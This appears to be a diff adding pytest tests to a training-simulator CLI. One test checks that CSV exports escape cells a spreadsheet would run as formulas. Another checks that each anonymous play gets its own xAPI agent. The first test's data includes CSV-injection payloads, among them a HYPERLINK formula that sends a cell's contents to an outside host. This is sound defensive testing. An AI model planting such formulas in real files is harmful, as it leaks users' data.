@@ -266,3 +266,40 @@ def test_report_of_the_shipped_stories_fits_80_columns(tmp_path):
         out = run_cli("report", "--db", db, "--lang", lang).stdout
         assert "regarder-ensemble" in out
         assert max(len(line) for line in out.splitlines()) <= 80
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(tmp_path):
+    """OWASP's CSV injection advice: text starting with = + - @ tab or CR gets a leading quote
+    (a trainee named =HYPERLINK(...) used to be written as it was); numbers stay numbers."""
+    from simulator.reports import csv_cell
+    db = str(tmp_path / "r.db")
+    evil = '=HYPERLINK("http://x/?"&A1,"click")'
+    names = (evil, "+1+cmd", "-2+3", "@SUM(A1)", "Ana-Marie", "=")
+    for name in names:
+        assert run_cli("play", SMALL_SWEATER, "--choices", "2,1", "--db", db, f"--trainee={name}").returncode == 0
+    out = run_cli("export", "--db", db, "--format", "csv").stdout.lstrip("\ufeff")
+    trainees = sorted(r["trainee"] for r in csv.DictReader(io.StringIO(out, newline="")))
+    assert trainees == sorted(["'" + evil, "'+1+cmd", "'-2+3", "'@SUM(A1)", "Ana-Marie", "'="])
+    assert [csv_cell(v) for v in ("\tTab", "\rCR", "x=1")] == ["'\tTab", "'\rCR", "x=1"]  # names are stripped
+    assert [csv_cell(v) for v in ("-3", "+4", "-1.5", 7, -2, "1e5", "Ana")] == ["-3", "+4", "-1.5", 7, -2, "1e5", "Ana"]
+
+
+def test_each_anonymous_play_is_its_own_xapi_agent(tmp_path, sweater):
+    """Plays without a name used to share one agent, 'anonymous', which an LMS merges into one
+    learner; each is now `anonymous-PLAY_ID` (deterministic), named ones stay their name."""
+    db = str(tmp_path / "r.db")
+    ids = [json.loads(run_cli("play", SMALL_SWEATER, "--choices", "2,1", "--json", "--db", db).stdout)["play_id"]
+           for _ in range(2)]
+    run_cli("play", SMALL_SWEATER, "--choices", "2,1", "--db", db, "--trainee", "Ana")
+    first = json.loads(run_cli("export", "--db", db, "--format", "xapi").stdout)
+    again = json.loads(run_cli("export", "--db", db, "--format", "xapi").stdout)
+    assert first == again
+    by_play: dict[str, set] = {}
+    for s in first:
+        by_play.setdefault(s["context"]["extensions"]["https://litige.example/xapi/extensions/play-id"], set()).add(
+            json.dumps(s["actor"], sort_keys=True))
+    agents = {pid: json.loads(next(iter(a))) for pid, a in by_play.items() if len(a) == 1}
+    assert len(agents) == 3                                   # one agent per play, the same in all its statements
+    assert {agents[i]["account"]["name"] for i in ids} == {f"anonymous-{i}" for i in ids}
+    assert sorted(a["account"]["name"] for a in agents.values() if not a["account"]["name"].startswith("anon")) \
+        == ["Ana"]
